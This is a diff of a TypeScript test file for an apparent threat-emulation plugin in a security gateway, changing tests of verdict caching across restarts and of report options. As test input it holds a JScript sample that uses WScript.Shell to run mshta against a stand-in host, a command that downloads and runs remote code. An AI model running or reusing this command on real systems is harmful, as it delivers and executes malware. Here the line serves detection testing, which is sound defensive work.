@@ -7,6 +7,8 @@ import { ReportStore } from '../../../plugins/threat-emulation/report-store.ts';
 import { optionsSchema } from '../../../plugins/threat-emulation/options.ts';
 import { eicar } from '../../support/eicar.ts';
 import { tempDir } from '../../support/tempDir.ts';
+import { startVerdictLab } from '../../gateway/verdict-lab.ts';
+import type { VerdictLab } from '../../gateway/verdict-lab.ts';
 import { emulationBlade, type TestEmulation } from './blade-support.ts';
 
 const JS = { 'content-type': 'text/javascript', 'content-disposition': 'attachment; filename="a.js"' };
@@ -176,7 +178,7 @@ describe('bounds', () => {
   test('a job over its time costs its own message only; a client that is gone ends it, a full queue says so', async () => {
     await using folder = await tempDir();
     const script = { time: '60s', ticks: 10_000_000 };
-    const reports = { folder: folder.path };
+    const reports = { folder: folder.path, clean: false };
     await using busy = await emulationBlade({ timeout: '1500ms', maxQueue: 1, script, reports });
     const gone = new AbortController();
     await busy.inspect(code('1'), JS); // the thread runs
@@ -242,26 +244,33 @@ describe('options', () => {
   });
 });
 
-test('the same content is not emulated again, until the rules of anti-virus change or its name does', async () => {
+test('the same content is not emulated again, over a restart too, until the rules of anti-virus change or its name does', async () => {
   let rules = 'one';
   const antivirus: Blade = {
     name: 'antivirus',
     fingerprint: () => rules,
     inspect: () => ({ kind: 'allow' }),
   };
-  await using own = await emulationBlade({}, antivirus);
+  await using own = await emulationBlade({ reports: { clean: false } }, antivirus);
   const script = code('new ActiveXObject("WScript.Shell").Run("mshta http://host.invalid/a", 0);');
-  const report = async (name: string): Promise<string> => {
-    const verdict = await own.inspect(script, { 'content-disposition': `attachment; filename="${name}"` });
-    return verdict.kind === 'block' ? (verdict.report ?? '') : verdict.kind;
+  await using lab = await startVerdictLab({ profile: {}, blades: [own.blade] });
+  const report = async (name: string, { respmod }: VerdictLab = lab): Promise<string | undefined> => {
+    const disposition = `attachment; filename="${name}"`;
+    const { text } = await respmod(script, { type: 'text/javascript', disposition });
+    return /te-[0-9a-f]{12}/.exec(text)?.[0];
   };
   const first = await report('a.js');
-  expect(first).toMatch(/^te-/);
+  expect(first).toBeDefined();
   expect(await report('a.js')).toBe(first);
-  const renamed = await report('b.js');
-  expect(renamed).not.toBe(first);
-  const before = own.blade.fingerprint!();
+  expect(await report('b.js')).not.toBe(first);
+  await lab.gateway.close(0);
+  await using next = await startVerdictLab({ profile: {}, blades: [own.blade], folder: lab.folder });
+  expect(await report('a.js', next)).toBe(first);
   rules = 'two';
-  expect(own.blade.fingerprint!()).not.toBe(before);
-  expect(await report('a.js')).not.toBe(first);
+  expect(await report('a.js', next)).not.toBe(first);
+});
+
+test('where clean files are to have reports, every message is emulated', async () => {
+  await using usual = await emulationBlade({ reports: { clean: false } });
+  expect([te.blade.judges, usual.blade.judges]).toEqual(['message', 'context']);
 });
